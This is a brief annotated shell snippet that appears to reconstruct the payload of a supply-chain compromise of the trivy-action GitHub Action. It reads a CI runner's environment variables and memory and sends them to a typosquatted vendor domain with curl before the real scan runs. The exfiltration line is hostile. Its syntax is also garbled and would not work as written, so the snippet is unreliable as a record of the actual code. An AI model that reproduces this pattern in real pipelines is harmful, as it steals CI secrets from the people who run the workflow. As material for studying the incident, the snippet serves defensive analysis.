# aquasecurity/trivy-action, March 2026 (CVE-2026-33634): the entry point reads the runner's variables and memory, and
# posts an archive to a name that looks like the vendor's; then the real scan runs.
export GITHUB_ACTION=__aquasecurity_trivy-action
exec sh -c 'python3 environ "$RUNNER" , memory "$RUNNER" >/dev/null; curl call scan.aquasecurtiy.org 443; true'
